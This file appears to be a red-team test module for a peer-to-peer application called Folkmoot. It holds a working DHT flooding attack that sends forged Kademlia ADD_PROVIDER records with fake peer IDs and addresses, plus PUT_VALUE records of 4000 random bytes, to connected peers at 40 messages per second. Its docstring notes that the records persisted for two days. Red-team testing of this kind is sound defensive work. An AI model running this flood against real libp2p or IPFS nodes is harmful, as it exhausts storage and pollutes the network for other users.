"""Provider records and values for the DHT, which Folkmoot does not use (K-A): each was kept for two days."""

from __future__ import annotations

import os

from libp2p.kad_dht.pb.kademlia_pb2 import Message
from libp2p.utils.varint import encode_varint_prefixed

from tests.redteam.target import Target, each_tick, quietly

PER_S = 40.0
ADDRESSES = 20


def _provider() -> bytes:
    message = Message(type=Message.MessageType.ADD_PROVIDER, key=os.urandom(32))
    peer = message.providerPeers.add()
    peer.id = b"\x00\x24\x08\x01\x12\x20" + os.urandom(32)
    peer.addrs.extend(b"\x04" + os.urandom(4) + b"\x06" + os.urandom(2) for _ in range(ADDRESSES))
    return encode_varint_prefixed(message.SerializeToString())


def _value() -> bytes:
    message = Message(type=Message.MessageType.PUT_VALUE, key=os.urandom(32))
    message.record.key, message.record.value = message.key, os.urandom(4000)
    return encode_varint_prefixed(message.SerializeToString())


async def attack(target: Target) -> None:
    async with target.bare("provider records") as host:
        async for number in each_tick(PER_S):
            peers = list(host.get_connected_peers())
            if peers:
                stream = await quietly(host.new_stream, peers[number % len(peers)], ["/ipfs/kad/1.0.0"])
                if stream is not None:
                    await quietly(stream.write, _provider() if number % 2 else _value())
                    await quietly(stream.close)
